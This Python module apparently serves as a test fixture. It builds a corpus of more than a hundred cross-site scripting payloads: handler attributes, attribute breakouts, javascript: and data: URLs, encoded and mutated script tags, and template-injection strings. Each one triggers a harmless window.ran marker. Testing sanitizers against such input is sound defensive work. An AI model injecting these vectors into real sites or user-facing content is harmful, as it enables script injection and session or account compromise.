"""Scripts as they stand in names, subjects, products and reports of those who wish us ill: more than a hundred."""

from functools import cache

RUN = "window.ran=1"
EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter",
    "onbegin", "onpageshow",
)  # fmt: skip
ELEMENTS = ("img", "svg", "body", "input", "details", "video", "audio", "iframe", "object", "marquee")


@cache
def payloads() -> tuple[str, ...]:
    """Elements with handlers, broken attributes, addresses, half-finished markup, encodings, mutated and templated."""
    handlers = [f"<{name} src=x autofocus {event}={RUN}>" for name in ELEMENTS for event in EVENTS[:6]]
    broken = [f'" {event}="{RUN}" x="' for event in EVENTS] + [
        f"' {event}='{RUN}' x='" for event in EVENTS[:6]
    ]
    return (*handlers, *broken, *_MARKUP, *_ADDRESSES, *_ENCODED, *_TEMPLATED)


_MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<![endif]--><script>{RUN}</script>",
    f"<!--[if mso]><script>{RUN}</script><![endif]-->",
    f"<math><mtext><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<a href="javascript:{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<meta http-equiv=refresh content='0;javascript:{RUN}'>",
    f"<base href='javascript:{RUN}//'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<table><td background='javascript:{RUN}'>",
    f"<img/src=x/onerror={RUN}//",
    f"<<img src=x onerror={RUN}>>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img \x00src=x onerror={RUN}>".replace("\x00", ""),
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<select><option><script>{RUN}</script>",
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'//x.invalid/"onerror={RUN}',
    f"red;background:url(javascript:{RUN})",
)
_ENCODED = (
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"</script><script>{RUN}</script>",
    f'";{RUN};//',
    f"';{RUN};//",
    f"`;${{{RUN}}}`",
    f"*/{RUN}/*",
    f"\u2028{RUN}\u2029",
)
_TEMPLATED = (
    f"{{{{ '<script>{RUN}</script>' | safe }}}}",
    f"{{% raw %}}<script>{RUN}</script>{{% endraw %}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<div hx-on:load={RUN} hx-get=/ hx-trigger=load>",
    f"<div data-hx-on-load={RUN}>",
    f"<p v-on:click={RUN} x-init={RUN}>",
)
